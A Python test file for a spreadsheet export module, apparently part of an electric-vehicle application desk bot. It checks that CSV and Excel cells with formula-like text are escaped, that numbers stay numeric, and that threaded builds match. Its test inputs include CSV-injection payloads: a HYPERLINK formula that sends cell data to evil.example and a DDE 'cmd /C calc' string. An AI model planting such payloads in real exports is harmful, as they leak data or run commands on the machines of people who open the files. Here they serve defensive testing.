"""Exports: no cell is ever a formula (CSV or Excel), numbers stay numbers, and the files
built on a worker thread are the ones built on the loop."""
from __future__ import annotations

import asyncio
import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from domain import export
from domain.applications import Application
from handlers.desk.exports import build
from i18n import Catalogues

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
NOW = datetime(2026, 11, 26, 6, 0, tzinfo=UTC)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_cells(data: bytes):
    return list(load_workbook(io.BytesIO(data)).active.iter_rows())


@pytest.mark.parametrize("value", [HYPERLINK, "=1+2", "+1+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(A1:A2)", "\t=1+2", "\r=1+2", "+7 701 123 45 67", "-",
                                   "=", "+", "@"])
def test_formula_like_text_is_neutralised(value):
    header, rows = ["name"], [[value]]
    assert csv_rows(export.to_csv(header, rows))[1] == ["'" + value]
    cell = xlsx_cells(export.to_xlsx(header, rows, "t", NOW))[1][0]
    # (XML reads a carriage return back as a line feed: that is the file format, not us.)
    assert (cell.value, cell.data_type, cell.quotePrefix) == \
        (value.replace("\r", "\n"), "s", True)


@pytest.mark.parametrize("value", ["Айгерим Нурланова", "a=b", " =1", "EV-2026-000001",
                                   "+77011234567", "-12.5", "+85,4", "—"])
def test_ordinary_text_is_written_as_it_is(value):
    assert csv_rows(export.to_csv(["name"], [[value]]))[1] == [value]
    cell = xlsx_cells(export.to_xlsx(["name"], [[value]], "t", NOW))[1][0]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", False)


def test_numbers_stay_numbers_negative_ones_included():
    rows: list[list[object]] = [[-5, -2.5, 0, 85.4]]
    assert csv_rows(export.to_csv(["a", "b", "c", "d"], rows))[1] == ["-5", "-2.5", "0", "85.4"]
    cells = xlsx_cells(export.to_xlsx(["a", "b", "c", "d"], rows, "t", NOW))[1]
    assert [(c.value, c.data_type) for c in cells] == [(-5, "n"), (-2.5, "n"), (0, "n"),
                                                        (85.4, "n")]


def case(i: int) -> Application:
    return Application(
        id=i, number=f"EV-2026-{i:06d}", user_id=i, status="submitted", path="sbkts",
        guide_answers={}, applicant_type="person", applicant_name=HYPERLINK if i == 3 else "Ә",
        id_number="870512300122", phone="+77011234567", vin="1HGCM82633A004352",
        vin_warning=False, make="BYD", model="Han", year=2024, category="m1", powertrain="bev",
        battery_kwh=85.4, chemistry="lfp", inlet="ccs2", created_at=1764136800 + i,
        updated_at=1764136800 + i, submitted_at=1764136800 + i, anonymised=False)


async def test_built_on_a_worker_thread_the_files_are_the_same():
    tr = Catalogues(ZoneInfo("Asia/Almaty")).get("kk")
    cases = [case(i) for i in range(1, 501)]
    on_loop = build(tr, cases, "Өтінімдер", NOW)
    threaded = await asyncio.to_thread(build, tr, cases, "Өтінімдер", NOW)
    assert threaded[0] == on_loop[0]  # CSV: the same bytes
    # Excel: a zip whose entries carry the second they were written, and openpyxl stamps
    # the time of saving into the properties; apart from those, the same bytes.
    zips = [zipfile.ZipFile(io.BytesIO(data)) for data in (on_loop[1], threaded[1])]
    assert zips[0].namelist() == zips[1].namelist()
    saved = re.compile(rb"<dcterms:modified[^>]*>[^<]*</dcterms:modified>")
    for name in zips[0].namelist():
        assert saved.sub(b"", zips[0].read(name)) == saved.sub(b"", zips[1].read(name)), name
    assert b"2026-11-26T06:00:00Z" in zips[1].read("docProps/core.xml")  # created: the clock's
    assert len(csv_rows(threaded[0])) == 501


async def test_export_v2_typed_cells_no_emoji_extra_columns_and_stats(person, bot, client):
    """Read back with openpyxl: dates are dates, numbers numbers, a =HYPERLINK name text;
    no pictographs; route, staff, inspection, days waiting and overdue columns; the
    statistics sheet."""
    from tests.desk_helpers import VEHICLE, staff_member
    user = await person("ru")
    await user.send("/start")
    repos, now = bot.runtime.repos, bot.clock.timestamp()
    draft = await repos.applications.create_draft(
        user.user_id, {**VEHICLE, "applicant_name": HYPERLINK}, now)
    await repos.applications.submit(draft.id, 2026, user.user_id, now)
    staff = await staff_member(client)
    await staff.send("/app EV-2026-000001")
    await staff.press("Взять себе")
    await staff.send("/export")
    await staff.press("Все статусы")
    replies = await staff.press("За всё время")
    files = [e for e in replies.events if e.get("kind") == "document"]
    book = load_workbook(io.BytesIO(await client.file(files[1]["file_id"])))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert isinstance(row["Подана"].value, datetime) and row["Подана"].is_date
    assert row["Подана"].value == datetime(2026, 11, 26, 11, 0)  # Almaty's wall clock
    assert (row["Год выпуска"].value, row["Год выпуска"].data_type) == (2024, "n")
    assert row["Ёмкость тяговой батареи, кВт·ч"].value == 85.4
    assert (row["Имя заявителя"].value, row["Имя заявителя"].data_type) == (HYPERLINK, "s")
    assert row["ИИН/БИН"].value == "870512300122" and row["ИИН/БИН"].data_type == "s"
    assert row["Маршрут"].value == "СБКТС (одно транспортное средство)"
    assert row["Ответственный сотрудник"].value == "Staff"
    assert row["Рабочих дней ожидания"].value == 0 and row["Просрочена"].value is False
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    emoji = re.compile("[\U0001F300-\U0001FAFF\u2600-\u27BF]")
    assert not [c.value for r in sheet.iter_rows() for c in r
                if isinstance(c.value, str) and emoji.search(c.value)]
    stats = book["Статистика"]
    assert [c.value for c in stats[1]][:3] == ["Неделя с", "подана", "решено"]
    assert isinstance(stats["A2"].value, datetime)
